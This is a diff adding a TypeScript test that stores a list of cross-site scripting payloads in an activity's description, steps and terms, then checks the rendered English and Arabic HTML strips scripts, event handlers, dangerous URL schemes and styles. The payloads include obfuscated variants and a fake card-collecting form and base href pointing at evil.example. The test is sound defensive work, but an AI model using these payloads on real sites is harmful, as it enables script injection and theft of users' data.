@@ -147,3 +147,41 @@ test('types come in the editor order, in the language of the caller', async () =
     { ActivityTypeId: 3, Name: 'غوص' },
   ])
 })
+
+test('no HTML that was stored can run anything, in any field or language', async () => {
+  const attacks = [
+    '<script>steal()</script>',
+    '<scr<script>ipt>steal()</script>',
+    '<img src=x onerror=steal()>',
+    '<svg/onload=steal()>',
+    '<p/onmouseover="steal()">a</p>',
+    '<a href="javascript:steal()">a</a>',
+    '<a href=" &#106;avascript:steal()">a</a>',
+    '<a href="java&#9;script:steal()">a</a>',
+    '<a href="data:text/html,<script>steal()</script>">a</a>',
+    '<a href="vbscript:steal()">a</a>',
+    '<iframe srcdoc="<script>steal()</script>"></iframe>',
+    '<object data="x"></object><embed src="x"><base href="//evil.example/">',
+    '<form action="//evil.example"><input name="card"><button>Pay</button></form>',
+    '<style>body{display:none}</style><div style="position:fixed">a</div>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=steal()>">',
+    '<!--><img src=x onerror=steal()>-->',
+    '<p>kept <strong>text</strong></p>',
+  ]
+  const hostile = await addActivity(db)
+  await sql`update activity_texts set description = ${attacks.join('')}, steps = ${attacks},
+    terms = ${attacks.toReversed().join('')} where activity_id = ${hostile}`.execute(db)
+  for (const language of ['en', 'ar'] as const) {
+    const { Data } = await show({ Id: hostile }, language)
+    const fields = [Data.Description, Data.TermsAndConditions ?? '', ...Data.Steps]
+    expect(fields).toHaveLength(2 + attacks.length)
+    for (const html of fields.slice(0, 2)) expect(html).toContain('kept <strong>text</strong>')
+    for (const html of fields) {
+      const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)]
+      for (const [whole, name = '', attributes = ''] of tags) {
+        expect(name, whole).toMatch(/^(p|a|strong|div)$/)
+        expect(attributes, whole).not.toMatch(/\bon\w+=|style=|(java|vb)script:|data:|srcdoc/i)
+      }
+    }
+  }
+})
